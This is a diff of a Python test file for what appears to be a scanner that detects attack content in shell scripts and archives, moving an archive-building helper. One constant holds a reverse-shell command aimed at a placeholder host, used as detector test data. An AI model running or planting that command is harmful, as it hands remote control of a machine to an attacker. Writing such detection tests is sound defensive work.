@@ -83,17 +83,23 @@ def test_attack_an_archive_is_found_under_any_name(path, data):
     assert rules(path, zipped()) == {"SH606"}
 
 
-def holding(kind, names):
+def packed(kind, files):
     held = io.BytesIO()
     if kind == "zip":
-        with zipfile.ZipFile(held, "w") as archive:
-            for name in names:
-                archive.writestr(name, "x")
+        with zipfile.ZipFile(held, "w", zipfile.ZIP_DEFLATED) as archive:
+            for name, data in files.items():
+                archive.writestr(name, data)
         return held.getvalue()
     with tarfile.open(fileobj=held, mode="w:gz" if kind == "tar.gz" else "w") as archive:
-        for name in names:
-            archive.addfile(tarfile.TarInfo(name))
+        for name, data in files.items():
+            entry = tarfile.TarInfo(name)
+            entry.size = len(data)
+            archive.addfile(entry, io.BytesIO(data))
     return held.getvalue()
+
+
+def holding(kind, names):
+    return packed(kind, dict.fromkeys(names, b"x"))
 
 
 @pytest.mark.parametrize("kind", ["zip", "tar", "tar.gz"])
@@ -151,21 +157,6 @@ def test_honest_files_have_no_finding(path, data):
 @pytest.mark.parametrize("unit", [b"\n", b" \n", b"\n" * 39 + b"a", b"PK\x03\x04", b"x" * 6000 + b"\n"])
 def test_attack_files_take_linear_time(unit):
     assert is_linear(lambda size: scan(Tree({"a.sh": File(unit * (size // len(unit)))})), 6_000)
-
-
-def packed(kind, files):
-    held = io.BytesIO()
-    if kind == "zip":
-        with zipfile.ZipFile(held, "w", zipfile.ZIP_DEFLATED) as archive:
-            for name, data in files.items():
-                archive.writestr(name, data)
-        return held.getvalue()
-    with tarfile.open(fileobj=held, mode="w:gz" if kind == "tar.gz" else "w") as archive:
-        for name, data in files.items():
-            entry = tarfile.TarInfo(name)
-            entry.size = len(data)
-            archive.addfile(entry, io.BytesIO(data))
-    return held.getvalue()
 
 
 PIPE = b"bash -i >& /dev/tcp/c.invalid/1 0>&1\n"
